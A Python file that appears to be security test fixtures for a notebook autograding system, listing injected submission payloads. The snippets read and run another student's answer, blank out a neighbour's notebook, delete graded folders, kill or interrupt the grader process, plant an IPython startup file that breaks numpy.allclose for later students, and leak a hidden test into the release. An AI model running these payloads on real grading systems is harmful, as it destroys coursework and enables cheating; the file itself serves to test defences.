"""Other students' submissions, and the grading of those that come next."""

from dishonest.attack import Attack

ATTACKS = [
    Attack(
        "the neighbour's answer",
        "Reads what another student handed in and runs it.",
        {
            "window": """
                import json

                for cell in json.load(open("@course@/submitted/@neighbour@/counting/counting.ipynb"))["cells"]:
                    if cell["id"] == "window":
                        exec("".join(cell["source"]))
            """
        },
    ),
    Attack(
        "the neighbour's submission emptied",
        "Overwrites what another student handed in before it is graded.",
        {
            "window": """
                import json
                import os

                path = "@course@/submitted/@neighbour@/counting/counting.ipynb"
                notebook = json.load(open(path))
                for cell in notebook["cells"]:
                    if cell["id"] in ("window", "rapidity", "batches", "scores"):
                        cell["source"] = "pass"
                json.dump(notebook, open(path, "w"))
                in_window, n_in_window = [], 1
            """
        },
        alone=True,
    ),
    Attack(
        "a graded submission removed",
        "Deletes the folder of a submission that has been graded.",
        {
            "window": """
                import shutil

                shutil.rmtree("@course@/autograded/alice")
                in_window, n_in_window = [], 1
            """
        },
        alone=True,
    ),
    Attack(
        "the grader killed",
        "Ends the process that started the kernel, and with it the class.",
        {
            "window": """
                import os
                import signal

                in_window, n_in_window = [], 1
                if os.getppid() > 1:
                    os.kill(os.getppid(), signal.SIGKILL)
            """
        },
        alone=True,
    ),
    Attack(
        "the grader interrupted",
        "Sends the process that started the kernel the signal with which an instructor would stop it.",
        {
            "window": """
                import os
                import signal

                in_window, n_in_window = [], 1
                if os.getppid() > 1:
                    os.kill(os.getppid(), signal.SIGINT)
            """
        },
        alone=True,
    ),
    Attack(
        "a message for the next student's test",
        "Leaves files for later submissions in the folders that programs read when they start.",
        {
            "window": """
                import os
                from pathlib import Path

                in_window, n_in_window = [], 1
                line = "import numpy; numpy.allclose = lambda *given, **options: False"
                for variable in ("IPYTHONDIR", "JUPYTER_CONFIG_DIR"):
                    if variable in os.environ and "@course@" in os.environ[variable]:
                        folder = Path(os.environ[variable], "profile_default", "startup")
                        folder.mkdir(parents=True, exist_ok=True)
                        (folder / "00-first.py").write_text(line)
            """
        },
        alone=True,
    ),
    Attack(
        "the hidden test left in the release",
        "Writes the test's text into the folder that the next students receive.",
        {
            "rapidity": """
                def pseudorapidity(theta):
                    with open("@course@/course/counting/read-me.txt", "w") as file:
                        file.write(In[-1])
                    return 0
            """
        },
        alone=True,
    ),
]
